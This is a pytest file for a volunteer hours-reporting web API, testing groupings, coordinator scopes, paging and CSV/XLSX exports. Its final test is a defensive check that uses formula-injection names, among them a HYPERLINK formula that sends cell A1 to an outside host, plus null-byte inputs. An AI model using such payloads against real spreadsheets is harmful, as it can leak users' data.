"""Hours reports: groupings, scopes, paging, CSV and XLSX; the ledger's public functions."""

from __future__ import annotations

import csv
import io
from datetime import datetime
from zoneinfo import ZoneInfo

import pytest
from flask import Flask
from flask.testing import FlaskClient
from openpyxl import load_workbook

from tests.conftest import Factory
from volunteer_hub.extensions import db
from volunteer_hub.models.attendance import HoursKind
from volunteer_hub.services import hours, reports

SH = ZoneInfo("Asia/Shanghai")


class Ledger:
    """Two branches, two towns, three members, entries in January and February."""

    def __init__(self, app: Flask, factory: Factory) -> None:
        self.town_a = factory.create_town("首南街道")
        self.town_b = factory.create_town("下应街道")
        self.squad_a = factory.create_squad("patrol", self.town_a)
        self.sg = factory.create_member(name="秘书长", roles=(("secretary_general", None, None),))
        self.patrol_coord = factory.create_member(
            name="巡防协调员", roles=(("coordinator", "patrol", None),)
        )
        self.rescue_coord = factory.create_member(
            name="救援协调员", branches=("rescue",), roles=(("coordinator", "rescue", None),)
        )
        self.alice = factory.create_member(name="张三", town_id=self.town_a)
        self.bob = factory.create_member(name="李四", town_id=self.town_b)
        self.carol = factory.create_member(name="王五", branches=("rescue",))
        patrol, rescue = factory.branch_id("patrol"), factory.branch_id("rescue")
        with app.app_context():
            s = db.session()
            add = hours.add_entry
            jan = datetime(2026, 1, 10, 9, tzinfo=SH)
            # 23:30 on 31 January in Shanghai is still January there (15:30 UTC).
            jan_late = datetime(2026, 1, 31, 23, 30, tzinfo=SH)
            feb = datetime(2026, 2, 3, 9, tzinfo=SH)
            common = {"branch_id": patrol}
            add(
                s,
                member_id=self.alice,
                kind="attendance",
                minutes=120,
                occurred_at=jan,
                town_id=self.town_a,
                **common,
            )
            add(
                s,
                member_id=self.alice,
                kind="attendance",
                minutes=60,
                occurred_at=jan_late,
                town_id=self.town_a,
                **common,
            )
            add(
                s,
                member_id=self.bob,
                kind="attendance",
                minutes=90,
                occurred_at=feb,
                town_id=self.town_b,
                **common,
            )
            original = add(
                s,
                member_id=self.bob,
                kind="manual",
                minutes=30,
                occurred_at=feb,
                town_id=self.town_b,
                **common,
            )
            add(
                s,
                member_id=self.bob,
                kind="reversal",
                minutes=-30,
                occurred_at=feb,
                town_id=self.town_b,
                references_id=original.id,
                **common,
            )
            hours.credit_minutes(
                s,
                member_id=self.carol,
                minutes=45,
                occurred_at=feb,
                branch_id=rescue,
                town_id=None,
                incident_id=7,
            )
            s.commit()


@pytest.fixture
def ledger(app: Flask, factory: Factory) -> Ledger:
    return Ledger(app, factory)


def report(client: FlaskClient, factory: Factory, who: int, path: str = "/reports/hours", **q):
    return client.get(f"/api/v1{path}", query_string=q, headers=factory.headers(who))


def test_by_branch_for_the_secretary_general(
    client: FlaskClient, factory: Factory, ledger: Ledger
) -> None:
    body = report(client, factory, ledger.sg, group_by="branch").get_json()
    rows = {r["key"]: r for r in body["rows"]}
    assert rows["patrol"]["minutes"] == 270
    assert rows["patrol"]["turns"] == 3
    assert rows["patrol"]["members"] == 2
    assert rows["patrol"]["name"] == "治安巡防"
    assert rows["rescue"]["minutes"] == 45 and rows["rescue"]["turns"] == 1
    assert body["total_minutes"] == 315 and body["turns"] == 4 and body["members"] == 3


def test_by_month_counts_local_days(client: FlaskClient, factory: Factory, ledger: Ledger) -> None:
    body = report(client, factory, ledger.sg, group_by="month").get_json()
    assert [(r["key"], r["minutes"]) for r in body["rows"]] == [("2026-01", 180), ("2026-02", 135)]
    both = report(client, factory, ledger.sg, group_by="month,branch").get_json()
    assert [(r["key"], r["minutes"], r["members"]) for r in both["rows"]] == [
        ("2026-01/patrol", 180, 1),
        ("2026-02/patrol", 90, 1),
        ("2026-02/rescue", 45, 1),
    ]
    assert both["rows"][0]["month"] == "2026-01" and both["rows"][0]["branch"] == "patrol"


def test_by_town_squad_and_date_range(
    client: FlaskClient, factory: Factory, ledger: Ledger
) -> None:
    towns = report(client, factory, ledger.sg, group_by="town").get_json()
    by_town = {r["name"]: r["minutes"] for r in towns["rows"]}
    assert by_town == {"首南街道": 180, "下应街道": 90, "（未归属）": 45}
    squads = report(client, factory, ledger.sg, group_by="squad").get_json()
    assert {r["name"]: r["minutes"] for r in squads["rows"]} == {
        "首南街道治安巡防分队": 180,
        "（未归属）": 135,
    }
    january = report(
        client, factory, ledger.sg, group_by="branch", **{"from": "2026-01-01", "to": "2026-01-31"}
    ).get_json()
    assert january["total_minutes"] == 180 and january["turns"] == 2


def test_the_unassigned_row_comes_last_in_every_grouping(
    client: FlaskClient, factory: Factory, ledger: Ledger
) -> None:
    """The （未归属） row (no town, no squad) comes after the others whether the grouping is by
    month or not, on SQLite as on PostgreSQL, so a report and its exports are ordered alike."""
    by_month = report(client, factory, ledger.sg, group_by="month,town").get_json()
    february = [r["town"] for r in by_month["rows"] if r["month"] == "2026-02"]
    assert february == [str(ledger.town_b), "none"]
    for grouping in ("town", "squad"):
        body = report(client, factory, ledger.sg, group_by=grouping).get_json()
        keys = [r["key"] for r in body["rows"]]
        assert keys[-1] == "none" and keys.count("none") == 1, (grouping, keys)
    exported = report(client, factory, ledger.sg, "/reports/hours.csv", group_by="town")
    rows = list(csv.reader(io.StringIO(exported.data.decode("utf-8-sig"))))
    assert [r[0] for r in rows[1:]] == [str(ledger.town_a), str(ledger.town_b), "none", "合计"]


def test_member_grouping_is_paged_most_minutes_first(
    client: FlaskClient, factory: Factory, ledger: Ledger
) -> None:
    first = report(client, factory, ledger.sg, group_by="member", page_size=2).get_json()
    assert first["total"] == 3 and first["page"] == 1
    assert [r["name"] for r in first["rows"]] == ["张三", "李四"]
    second = report(client, factory, ledger.sg, group_by="member", page_size=2, page=2).get_json()
    assert [r["name"] for r in second["rows"]] == ["王五"]
    assert second["total_minutes"] == 315 and second["members"] == 3
    past = report(client, factory, ledger.sg, group_by="member", page_size=2, page=9).get_json()
    assert past["rows"] == [] and past["total"] == 3
    assert (past["total_minutes"], past["turns"], past["members"]) == (315, 4, 3)
    month_member = report(client, factory, ledger.sg, group_by="month,member").get_json()
    assert month_member["total"] == 3
    assert month_member["rows"][0]["key"] == "2026-01/" + str(ledger.alice)


def test_member_names_are_found_however_many_ids_a_query_may_take(
    client: FlaskClient, factory: Factory, ledger: Ledger, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Every member of an export is named: one array on PostgreSQL, chunks of ids elsewhere
    (here two per query, so SQLite's three members take two queries)."""
    monkeypatch.setattr(reports, "ID_CHUNK", 2)
    exported = report(client, factory, ledger.sg, "/reports/hours.csv", group_by="member")
    rows = list(csv.reader(io.StringIO(exported.data.decode("utf-8-sig"))))
    assert sorted(r[2] for r in rows[1:-1]) == sorted(["张三", "李四", "王五"])
    paged = report(client, factory, ledger.sg, group_by="member").get_json()
    assert sorted(r["name"] for r in paged["rows"]) == sorted(["张三", "李四", "王五"])


def test_naming_more_members_than_sqlite_takes_parameters_works(app: Flask, ledger: Ledger) -> None:
    """Naming the members of an export takes any number of them: as one IN list, more ids
    than SQLite takes parameters (32,766 by default, 250,000 in this build) were refused (too
    many SQL variables, a 500)."""
    wanted = set(range(1_000_000, 1_260_000)) | {ledger.alice}
    with app.app_context():
        named = dict(reports._member_names(db.session(), wanted))
    assert named == {ledger.alice: "张三"}


def test_coordinators_see_their_branch_only(
    client: FlaskClient, factory: Factory, ledger: Ledger
) -> None:
    own = report(client, factory, ledger.patrol_coord, group_by="branch").get_json()
    assert [r["key"] for r in own["rows"]] == ["patrol"]
    assert own["total_minutes"] == 270
    explicit = report(client, factory, ledger.patrol_coord, group_by="member", branch="patrol")
    assert explicit.status_code == 200
    other = report(client, factory, ledger.patrol_coord, group_by="branch", branch="rescue")
    assert other.status_code == 403
    for path in ("/reports/hours.csv", "/reports/hours.xlsx"):
        assert (
            report(
                client, factory, ledger.patrol_coord, path, group_by="branch", branch="rescue"
            ).status_code
            == 403
        )
    assert report(client, factory, ledger.alice, group_by="branch").status_code == 403


def test_a_town_coordinator_sees_the_hours_of_their_town_only(
    client: FlaskClient, factory: Factory, ledger: Ledger
) -> None:
    """A coordinator of (patrol, town A) counts patrol entries of town A: not town B's (李四's
    90 minutes), not the rescue entry of no town; in every grouping and export. The other
    town's coordinator the reverse; the branch-wide coordinator both."""
    town_a_coord = factory.create_member(roles=(("coordinator", "patrol", ledger.town_a),))
    town_b_coord = factory.create_member(roles=(("coordinator", "patrol", ledger.town_b),))
    for who, minutes, names in (
        (town_a_coord, 180, {"张三"}),
        (town_b_coord, 90, {"李四"}),
        (ledger.patrol_coord, 270, {"张三", "李四"}),
    ):
        for group_by in ("branch", "town", "month", "month,branch", "month,member", "squad"):
            for branch in (None, "patrol"):
                query = {"group_by": group_by} | ({"branch": branch} if branch else {})
                response = report(client, factory, who, **query)
                assert response.status_code == 200, response.get_json()
                body = response.get_json()
                assert body["total_minutes"] == minutes, (who, query)
                assert sum(r["minutes"] for r in body["rows"]) == minutes, (who, query)
        members = report(client, factory, who, group_by="member").get_json()
        assert {r["name"] for r in members["rows"]} == names
        assert members["total"] == len(names)
        exported = report(client, factory, who, "/reports/hours.csv", group_by="member")
        text = exported.get_data().decode("utf-8-sig")
        assert {n for n in ("张三", "李四", "王五") if n in text} == names, who
        book = load_workbook(
            io.BytesIO(
                report(
                    client, factory, who, "/reports/hours.xlsx", group_by="member", sheets="town"
                ).data
            )
        )
        cells = {c.value for sheet in book for row in sheet.iter_rows() for c in row}
        assert {n for n in ("张三", "李四", "王五") if n in cells} == names, who
        assert ("首南街道" in cells, "下应街道" in cells) == ("张三" in names, "李四" in names)
    for who in (town_a_coord, town_b_coord):
        assert report(client, factory, who, group_by="branch", branch="rescue").status_code == 403


@pytest.mark.parametrize(
    ("query", "field"),
    [
        ({"group_by": "planet"}, "group_by"),
        ({"group_by": "branch,branch"}, "group_by"),
        ({"group_by": "branch,town,month"}, "group_by"),
        ({}, "group_by"),
        ({"group_by": "branch", "from": "2026-02-01", "to": "2026-01-01"}, "to"),
        ({"group_by": "branch", "from": "01/02/2026"}, "from"),
        ({"group_by": "branch", "branch": "nope"}, "branch"),
        ({"group_by": "branch", "branch": "pat\x00rol"}, "branch"),
        ({"group_by": "bra\x00nch"}, "group_by"),
        ({"group_by": "member", "page": 0}, "page"),
        ({"group_by": "member", "page_size": 501}, "page_size"),
    ],
)
def test_bad_report_queries_are_named(
    client: FlaskClient, factory: Factory, ledger: Ledger, query: dict, field: str
) -> None:
    response = report(client, factory, ledger.sg, **query)
    assert response.status_code == 422, response.get_json()
    assert field in response.get_json()["errors"]


def test_a_misspelt_filter_is_refused_not_ignored(
    client: FlaskClient, factory: Factory, ledger: Ledger
) -> None:
    # Ignored, `brnach` would give the whole federation's totals as if they were one branch's.
    response = report(client, factory, ledger.sg, group_by="month", brnach="patrol")
    assert response.status_code == 422, response.get_json()
    assert response.get_json()["errors"] == {"brnach": ["Unknown field."]}
    exported = report(client, factory, ledger.sg, "/reports/hours.xlsx", sheet="branch")
    assert exported.status_code == 422
    assert "sheet" in exported.get_json()["errors"]
    assert report(client, factory, ledger.sg, group_by="month", branch="patrol").status_code == 200


def test_csv_has_a_bom_chinese_headers_and_totals(
    client: FlaskClient, factory: Factory, ledger: Ledger
) -> None:
    response = report(client, factory, ledger.sg, "/reports/hours.csv", group_by="branch")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    assert response.data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    assert rows[0] == ["分会", "键", "名称", "服务时长（小时）", "服务分钟", "人次", "人数"]
    assert ["patrol", "patrol", "治安巡防", "4.5", "270", "3", "2"] in rows
    assert rows[-1][0] == "合计" and rows[-1][-3:] == ["315", "4", "3"]


def test_csv_hours_round_half_up_as_the_xlsx_shows_them(
    client: FlaskClient, factory: Factory, ledger: Ledger
) -> None:
    """135 minutes are 2.25 hours and 315 are 5.25: with one decimal the CSV says 2.3 and 5.3,
    as the XLSX of the same report shows them (2.25 in a 0.0 cell), not 2.2 and 5.2."""
    response = report(client, factory, ledger.sg, "/reports/hours.csv", group_by="month")
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    february = next(r for r in rows if r[0] == "2026-02")
    assert february[3:5] == ["2.3", "135"]
    assert rows[-1][0] == "合计" and rows[-1][3:5] == ["5.3", "315"]
    book = report(client, factory, ledger.sg, "/reports/hours.xlsx", group_by="month")
    sheet = load_workbook(io.BytesIO(book.data)).active
    cells = {row[0].value: row[3] for row in sheet.iter_rows(min_row=2)}
    assert cells["2026-02"].value == pytest.approx(2.25)
    assert cells["2026-02"].number_format == "0.0"
    assert cells["合计"].value == pytest.approx(5.25)


def test_csv_hours_round_halves_away_from_zero_on_both_sides() -> None:
    """Hours are rounded from the exact minutes / 60, half away from zero as Excel rounds a
    0.0 cell: a net negative row shows the same figure as its positive twin, negated."""
    minutes = [135, -135, 9, -9, 3, 1, 0, -315]
    rows = [
        {"branch": str(m), "key": str(m), "name": "x", "minutes": m, "turns": 0, "members": 0}
        for m in minutes
    ]
    exported = reports.to_csv(
        {"group_by": ["branch"], "rows": rows, "total_minutes": -45, "turns": 0, "members": 0}
    )
    lines = list(csv.reader(io.StringIO(exported.decode("utf-8-sig"))))[1:]
    assert [line[3] for line in lines] == [
        "2.3",
        "-2.3",
        "0.2",
        "-0.2",
        "0.1",
        "0.0",
        "0.0",
        "-5.3",
        "-0.8",
    ]


def test_xlsx_has_a_sheet_per_grouping(
    client: FlaskClient, factory: Factory, ledger: Ledger
) -> None:
    response = report(
        client, factory, ledger.sg, "/reports/hours.xlsx", group_by="branch", sheets="town,month"
    )
    assert response.status_code == 200
    assert response.mimetype.endswith("spreadsheetml.sheet")
    book = load_workbook(io.BytesIO(response.data))
    assert book.sheetnames == ["按分会", "按镇街", "按月份"]
    sheet = book["按分会"]
    assert [c.value for c in sheet[1]] == [
        "分会",
        "键",
        "名称",
        "服务时长（小时）",
        "服务分钟",
        "人次",
        "人数",
    ]
    assert sheet.freeze_panes == "A2"
    assert sheet[1][0].font.bold
    patrol = next(row for row in sheet.iter_rows(min_row=2) if row[0].value == "patrol")
    assert patrol[3].value == pytest.approx(4.5) and patrol[3].number_format == "0.0"
    assert patrol[4].value == 270 and patrol[4].number_format == "0"
    last = sheet[sheet.max_row]
    assert last[0].value == "合计" and last[4].value == 315 and last[0].font.bold
    bad = report(client, factory, ledger.sg, "/reports/hours.xlsx", group_by="branch", sheets="x")
    assert bad.status_code == 422 and "sheets" in bad.get_json()["errors"]


def test_me_hours(client: FlaskClient, factory: Factory, ledger: Ledger) -> None:
    mine = client.get("/api/v1/me/hours", headers=factory.headers(ledger.bob)).get_json()
    assert mine["total_minutes"] == 90 and mine["turns"] == 1
    assert [e["kind"] for e in mine["entries"]] == ["reversal", "manual", "attendance"]
    ranged = client.get(
        "/api/v1/me/hours?from=2026-01-01&to=2026-01-31", headers=factory.headers(ledger.bob)
    ).get_json()
    assert ranged["total_minutes"] == 0 and ranged["entries"] == []
    bad = client.get("/api/v1/me/hours?from=nope", headers=factory.headers(ledger.bob))
    assert bad.status_code == 422 and "from" in bad.get_json()["errors"]
    assert client.get("/api/v1/me/hours").status_code == 401


def test_add_entry_rejects_naive_times_and_absurd_minutes(app: Flask, factory: Factory) -> None:
    member = factory.create_member()
    with app.app_context():
        with pytest.raises(ValueError, match="timezone"):
            hours.add_entry(
                db.session(),
                member_id=member,
                kind=HoursKind.MANUAL,
                minutes=5,
                occurred_at=datetime(2026, 1, 1),
                branch_id=1,
                town_id=None,
            )
        with pytest.raises(ValueError, match="week"):
            hours.add_entry(
                db.session(),
                member_id=member,
                kind=HoursKind.MANUAL,
                minutes=10**6,
                occurred_at=datetime(2026, 1, 1, tzinfo=SH),
                branch_id=1,
                town_id=None,
            )
        db.session.rollback()


@pytest.mark.parametrize(
    "name", ['=HYPERLINK("http://example.com/?"&A1,"详情")', "+1+1", "-1+1", "@SUM(1,1)"]
)
def test_exports_never_turn_a_name_into_a_formula(
    app: Flask, client: FlaskClient, factory: Factory, ledger: Ledger, name: str
) -> None:
    """A name that Excel or WPS would read as a formula (=, +, - or @ first) is exported as the
    text it is: in XLSX a text cell, in CSV behind an apostrophe, as OWASP advises."""
    member = factory.create_member(name=name, town_id=ledger.town_a)
    with app.app_context():
        hours.add_entry(
            db.session(),
            member_id=member,
            kind="manual",
            minutes=15,
            occurred_at=datetime(2026, 1, 12, 9, tzinfo=SH),
            branch_id=factory.branch_id("patrol"),
            town_id=ledger.town_a,
        )
        db.session.commit()
    query = {"group_by": "member", "from": "2026-01-01", "to": "2026-12-31"}
    exported = report(client, factory, ledger.sg, "/reports/hours.csv", **query)
    assert exported.status_code == 200, exported.get_json()
    rows = list(csv.reader(io.StringIO(exported.data.decode("utf-8-sig"))))
    assert "'" + name in (cell for row in rows for cell in row)
    assert name not in (cell for row in rows for cell in row)
    exported = report(client, factory, ledger.sg, "/reports/hours.xlsx", **query)
    assert exported.status_code == 200, exported.get_json()
    cells = [c for row in load_workbook(io.BytesIO(exported.data)).active.iter_rows() for c in row]
    (cell,) = (c for c in cells if c.value == name)
    assert cell.data_type == "s"
    assert all(c.data_type != "f" for c in cells)
